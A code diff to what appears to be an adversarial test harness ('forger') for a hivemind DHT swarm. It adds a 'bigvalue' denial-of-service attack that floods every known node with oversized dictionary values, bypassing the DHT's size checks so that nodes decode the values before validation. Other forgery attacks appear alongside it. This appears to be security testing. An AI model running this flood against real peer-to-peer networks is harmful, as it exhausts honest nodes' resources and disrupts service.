@@ -17,6 +17,9 @@ survive:
                the founder's envelope with the body edited, signed by the forger under the
                founder's slot, and (the control) signed by the forger under its own slot, which
                honest nodes must accept and joiners must ignore
+    bigvalue   (finding 10; only when asked for with --only) a whole-dictionary store of a 3.9 MB
+               and of a 450 KB value of tiny items, sent straight to every DHT node the forger
+               knows: hivemind decodes such a value before any validator sees it
 
 Stores use `exclude_self=True`, so "accepted" means an honest DHT node took it. Prints
 `FORGER READY` after the first round and `FORGER DONE <json>` (per forgery: attempts, accepted)
@@ -37,6 +40,8 @@ from typing import Any
 
 import msgpack
 from hivemind.dht.node import DHTNode
+from hivemind.dht.routing import DHTID
+from hivemind.dht.storage import DictionaryDHTValue
 from hivemind.p2p import P2P
 from hivemind.utils import get_dht_time
 
@@ -84,6 +89,7 @@ class Forger:
         self.me = Identity.generate()  # the forger's own key: it can sign, just not as anyone else
         self.attempts: dict[str, int] = {}
         self.accepted: dict[str, int] = {}
+        self._big_values: dict[str, DictionaryDHTValue] = {}
 
     async def store(self, name: str, key: str, value: Any, expiration: float, subkey: Any = None) -> None:
         if self.only is not None and name.split("_")[0] not in self.only:
@@ -96,6 +102,42 @@ class Forger:
             ok = False
         self.accepted[name] = self.accepted.get(name, 0) + int(bool(ok))
 
+    def big_value(self, megabytes: float) -> DictionaryDHTValue:
+        """A dictionary of tiny items, the costliest shape to decode per byte we found (~19 bytes an item)."""
+        name = f"{megabytes}"
+        if name not in self._big_values:
+            value = DictionaryDHTValue()
+            for index in range(int(megabytes * 1e6 / 18.6)):
+                value.store(index, b"", get_dht_time() + 600)
+            self._big_values[name] = value
+        return self._big_values[name]
+
+    async def store_big_values(self) -> None:
+        """Finding 10: whole-dictionary stores, sent to every node the forger knows, not through the
+        DHT's store (which would refuse to send a value without subkeys this large)."""
+        if self.only is None or "bigvalue" not in self.only:
+            return
+        key = DHTID.generate(source=stage_key(self.swarm_id, 1))
+
+        async def attack(peer: Any, name: str, megabytes: float) -> None:
+            self.attempts[name] = self.attempts.get(name, 0) + 1
+            try:
+                ok = await self.dht.protocol.call_store(
+                    peer, [key], [self.big_value(megabytes)], [get_dht_time() + 600]
+                )
+            except Exception as e:
+                print(f"store {name} raised {e!r}", file=sys.stderr, flush=True)
+                ok = None
+            self.accepted[name] = self.accepted.get(name, 0) + int(bool(ok and all(ok)))
+
+        async def attack_one(peer: Any) -> None:
+            # the 450 KB value four times: more than one sender's burst allows
+            for _ in range(4):
+                await attack(peer, "bigvalue_0.45MB", 0.45)
+
+        peers = list(self.dht.protocol.routing_table.peer_id_to_uid)
+        await asyncio.gather(*(attack(peer, "bigvalue_3.9MB", 3.9) for peer in peers), *map(attack_one, peers))
+
     async def genuine(self, key: str, subkey: str) -> dict[str, Any] | None:
         found = await self.dht.get(key, latest=True)
         if found is None or not isinstance(found.value, dict) or subkey not in found.value:
@@ -104,6 +146,7 @@ class Forger:
         return value if isinstance(value, dict) and "body" in value else None
 
     async def round(self) -> None:
+        await self.store_big_values()
         now = get_dht_time()
         far = now + FAR
         stage1 = stage_key(self.swarm_id, 1)
@@ -195,7 +238,7 @@ def parse_args(argv: list[str] | None = None) -> argparse.Namespace:
     parser.add_argument("--swarm", required=True)
     parser.add_argument("--victim", required=True, help="peer id of the stage-1 peer to pin as leaving")
     parser.add_argument("--founder", required=True, help="peer id of the swarm's founder")
-    parser.add_argument("--only", nargs="*", help="forgery families to run: pin phantom event config")
+    parser.add_argument("--only", nargs="*", help="forgery families to run: pin phantom event config bigvalue")
     parser.add_argument("--rounds", type=int, default=20)
     parser.add_argument("--period", type=float, default=1.0)
     parser.add_argument("--max-seconds", type=float, default=120.0)
